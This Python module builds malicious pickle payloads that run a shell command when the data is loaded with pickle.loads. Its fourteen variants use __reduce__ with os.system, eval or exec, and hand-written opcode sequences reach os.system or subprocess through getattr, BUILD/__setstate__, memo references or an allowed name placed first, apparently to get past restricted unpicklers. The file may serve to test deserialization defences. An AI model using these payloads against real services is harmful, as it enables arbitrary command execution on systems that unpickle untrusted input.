"""Pickles that run a command when they are loaded by `pickle.loads`."""

from __future__ import annotations

import os
import pickle
from collections.abc import Callable
from typing import Any


class Call:
    """An object that is pickled as the call of a function."""

    def __init__(self, function: Any, *arguments: Any) -> None:
        self.call = function, arguments

    def __reduce__(self) -> Any:
        return self.call


def text(value: str) -> bytes:
    """Instruction that pushes text."""
    return b"X" + len(value.encode()).to_bytes(4, "little") + value.encode()


def reduce_of(function: Any, protocol: int = 2) -> Callable[[str], bytes]:
    """A payload that calls a function."""

    def payload(command: str) -> bytes:
        code = f"__import__('os').system({command!r})"
        argument = command if function is os.system else code
        return pickle.dumps({"a": Call(function, argument)}, protocol)

    return payload


PAYLOADS: dict[str, Callable[[str], bytes]] = {
    "os.system, protocol 0": reduce_of(os.system, 0),
    "os.system, protocol 2": reduce_of(os.system),
    "os.system, protocol 4": reduce_of(os.system, 4),
    "eval": reduce_of(eval),
    "exec, protocol 5": reduce_of(exec, 5),
    "inst": lambda command: b"(S" + repr(command).encode() + b"\nios\nsystem\n.",
    "obj": lambda command: b"(cos\nsystem\n" + text(command) + b"o.",
    "subprocess": lambda command: (
        b"csubprocess\ncall\n(](" + text("sh") + text("-c") + text(command) + b"etR."
    ),
    "newobj": lambda command: (
        b"cbuiltins\nmap\n(cos\nsystem\n](" + text(command) + b"et\x81q\x010"
        b"cbuiltins\nlist\nh\x01\x85R."
    ),
    "newobj_ex": lambda command: (
        b"\x80\x04cbuiltins\nlist\n(cbuiltins\nmap\n(cos\nsystem\n]("
        + text(command)
        + b"et}\x92tR."
    ),
    # getattr(os.system, "__call__")(command)
    "getattr": lambda command: (
        b"cbuiltins\ngetattr\ncos\nsystem\n"
        + text("__call__")
        + b"\x86R"
        + text(command)
        + b"\x85R."
    ),
    # an object whose __setstate__ was replaced by BUILD calls os.system on the next BUILD
    "build": lambda command: (
        b"ctypes\nSimpleNamespace\n)R}"
        + text("__setstate__")
        + b"cos\nsystem\nsb"
        + text(command)
        + b"b."
    ),
    "an allowed name first": lambda command: (
        b"ccollections\nOrderedDict\n)R0cos\nsystem\n" + text(command) + b"\x85R."
    ),
    "a name from the memo": lambda command: b"cos\nsystem\nq\x050h\x05" + text(command) + b"\x85R.",
}
